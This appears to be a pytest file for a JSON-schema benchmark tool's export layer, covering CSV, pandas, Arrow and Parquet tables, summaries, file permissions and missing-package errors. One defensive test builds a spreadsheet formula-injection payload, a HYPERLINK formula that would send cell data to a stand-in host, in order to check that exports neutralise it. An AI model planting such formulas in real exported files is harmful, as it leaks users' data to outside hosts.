from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from pytest_jsbench.cli.main import main
from pytest_jsbench.core.cases import CaseKey
from pytest_jsbench.core.errors import ExportError, JSBenchError
from pytest_jsbench.core.timing import Timing
from pytest_jsbench.metrics.summary import summarize
from pytest_jsbench.records import journal
from pytest_jsbench.records.facts import Place
from pytest_jsbench.records.records import Attempt, Missing, MissingReason, Record
from pytest_jsbench.records.runs import Run
from pytest_jsbench.reports import tables
from pytest_jsbench.reports.run_files import find
from pytest_jsbench.values import Match
from tests.support import examples
from tests.support.examples import record, replace

SCHEMA = {"type": "object", "properties": {"n": {"type": "integer", "minimum": 1}}}


def a_run() -> Run:
    missing = CaseKey(task="simple", id="late")
    records = [
        record("good", schema=SCHEMA),
        record("bad", verdict=examples.VIOLATED, schema=SCHEMA, generation=examples.completion('{"n": -1}')),
        record("down", verdict=examples.BROKEN, generation=examples.failed()),
        record("broken", verdict=examples.EXCLUDED),
    ]
    run = examples.run(*records, planned=(*(one.key for one in records), missing))
    return replace(run, missing=(Missing(key=missing, repeat=0, reason=MissingReason.LIMIT, message="too dear"),))


def by_id() -> dict[str, dict[str, Any]]:
    return {row["id"]: row for row in tables.rows_of(a_run())}


def test_each_planned_attempt_is_a_row_of_the_same_columns() -> None:
    rows = by_id()

    assert list(rows) == ["good", "bad", "down", "broken", "late"]
    assert {tuple(row) for row in rows.values()} == {tuple(tables.COLUMNS)}
    for row in rows.values():
        for name, value in row.items():
            assert value is None or type(value) is tables.COLUMNS[name], (name, value)
    assert (
        rows["bad"]
        | {
            "engine": "scripted",
            "failure_type": "schema_violation",
            "text": '{"n": -1}',
            "broken_keywords": '["minimum"]',
            "notes": '["fenced"]',
            "ttft": 0.2,
            "tpot_ms": pytest.approx(80.0),
            "output_tokens": 11,
            "tags": '["eu", "nightly"]',
            "schema": json.dumps(SCHEMA),
        }
        == rows["bad"]
    )
    assert (rows["down"]["fault"], rows["down"]["text"]) == ("timeout", None)
    assert (rows["late"]["missing"], rows["late"]["said"]) == ("limit", "too dear")


def test_planned_attempt_without_a_record_is_a_row() -> None:
    made = examples.variants(a={}, b={})
    plan = [Attempt(CaseKey(task="simple", id="x"), at, name) for name in "ab" for at in range(3)]
    run = examples.of_records(
        made.with_plan(plan), [one.key for one in plan], [replace(record("x"), variant="a", repeat=at) for at in (0, 2)]
    )

    rows = [(row["variant"], row["repeat"], row["missing"], row["passed"]) for row in tables.rows_of(run)]

    assert rows[:2] == [("a", 0, None, True), ("a", 2, None, True)]
    assert rows[2:] == [("a", 1, "unknown", False), *(("b", at, "unknown", False) for at in range(3))]


THOUGHT = replace(examples.completion("{}"), timing=Timing(tgt=3.0, ttft=2.0, reasoning_time=1.5), reasoning="Hm.")
MATCHED = Match(fields={"total": (1, 1), "vendor": (0, 1)}, invented=2)


@pytest.mark.parametrize(
    ("made", "columns"),
    [
        (replace(record("a"), match=MATCHED), {"values_right": 1, "values_expected": 2, "values_invented": 2}),
        (
            record("a", generation=examples.decided("v0", "i0", "i1")),
            {"valid_instances": 2, "valid_rejected": 1, "invalid_instances": 2, "invalid_accepted": 2},
        ),
        (record("a", generation=THOUGHT), {"reasoning": "Hm.", "reasoning_time": 1.5}),
    ],
)
def test_columns_of_some_attempts_are_null_in_others(made: Record, columns: dict[str, Any]) -> None:
    known, plain = tables.rows_of(examples.run(made, record("bare")))

    assert {name: known[name] for name in columns} == columns
    assert {plain[name] for name in columns} == {None}


def test_mean_of_the_passed_column_is_the_pass_rate() -> None:
    passed = [row["passed"] for row in by_id().values() if row["passed"] is not None]

    assert sum(passed) / len(passed) == summarize(a_run()).total.pass_rate.value == 0.25


def test_the_figures_are_flat_and_have_the_names_of_the_gates() -> None:
    total = {row["task"]: row for row in tables.summary_rows(summarize(a_run()))}["total"]

    assert total["pass_rate"] == 0.25
    assert total["failure_counts.schema_violation"] == 1
    assert total["missing_reasons.limit"] == 1
    assert not any(isinstance(value, dict) for value in total.values())


def test_csv_file_has_the_rows_for_any_answer(tmp_path: Path) -> None:
    said = 'a,"b"\r\nc \ud800 \x00=1+1'
    run = examples.run(record(generation=examples.completion(said)))

    tables.write_csv(tmp_path / "run.csv", run)

    with (tmp_path / "run.csv").open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert row["text"] == said.replace("\ud800", "\\ud800")
    assert (row["passed"], row["failure_type"]) == ("True", "")


def test_pandas_arrow_and_parquet_hold_the_rows_with_their_types(tmp_path: Path) -> None:
    pandas = pytest.importorskip("pandas", reason="needs the extra frames")
    parquet = pytest.importorskip("pyarrow.parquet", reason="needs the extra frames")
    run = a_run()
    rows = list(tables.rows_of(run))

    assert tables.to_arrow(run).to_pylist() == rows
    frame = tables.to_pandas(run)
    assert list(frame.columns) == list(tables.COLUMNS)
    assert frame.passed.mean() == 0.25
    assert frame.passed.dtype == "boolean"
    assert frame.output_tokens.dtype == "Int64"
    assert frame.loc[frame.id == "late", "text"].isna().all()
    tables.write_parquet(tmp_path / "run.parquet", run)
    assert parquet.read_table(tmp_path / "run.parquet").to_pylist() == rows
    assert [path.name for path in tmp_path.iterdir()] == ["run.parquet"]
    summary = tables.summary_to_pandas(summarize(run))
    assert summary.loc["total", "pass_rate"] == 0.25
    assert isinstance(summary, pandas.DataFrame)


@pytest.mark.parametrize("first", [*"=+-@\t\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_text_of_a_csv_file_is_a_formula_to_a_spreadsheet(tmp_path: Path, first: str) -> None:
    text = f'{first}HYPERLINK("https://stranger.example?"&A1,"see")'
    verdict = replace(examples.VIOLATED, message=text)
    attempt = examples.record("a", generation=examples.completion(text), verdict=verdict)

    tables.write_csv(tmp_path / "run.csv", examples.run(attempt))

    with (tmp_path / "run.csv").open(newline="", encoding="utf-8") as file:
        (row,) = csv.DictReader(file)
    assert (row["text"], row["message"]) == (f"'{text}", f"'{text}")
    assert not [cell for cell in row.values() if cell.startswith(first)]


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_failed_table_leaves_no_file_and_written_one_is_private(form: str, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow", reason="needs the extra frames")
    write = tables.write_csv if form == "csv" else tables.write_parquet
    gone = record(generation=examples.completion("x" * 10))
    torn = replace(a_run(), outcomes=(replace(a_run().outcomes[0], source=Place(path=tmp_path / "gone", start=0)),))

    with pytest.raises(ExportError, match="there is no directory"):
        write(tmp_path / "none" / "run", examples.run(gone))
    with pytest.raises(JSBenchError, match="No such file"):
        write(tmp_path / "run", torn)
    assert list(tmp_path.iterdir()) == []
    write(tmp_path / "run", a_run())
    assert (tmp_path / "run").stat().st_mode & 0o777 == 0o600


def test_the_command_exports_both(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("pyarrow", reason="needs the extra frames")
    run = a_run()
    journal.write(tmp_path / "records.jsonl", run.metadata.with_plan(one.attempt for one in run.outcomes), run.records)

    for form in ("csv", "parquet"):
        assert main(["export", str(tmp_path / "records.jsonl"), f"--format={form}", "-o", str(tmp_path / form)]) == 0
        assert (tmp_path / form).stat().st_size > 500
        assert capsys.readouterr().out == f"{tmp_path / form}\n"


def test_missing_package_is_one_line(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda _: None)

    for make, package in ((tables.to_pandas, "pandas"), (tables.to_arrow, "pyarrow"), (tables.to_dataset, "datasets")):
        with pytest.raises(JSBenchError, match=rf"needs {package}: pip install 'pytest-jsbench\["):
            make(a_run())
    with pytest.raises(JSBenchError, match="needs pyarrow"):
        find("parquet").write(tmp_path / "x.parquet", a_run(), summarize(a_run()))
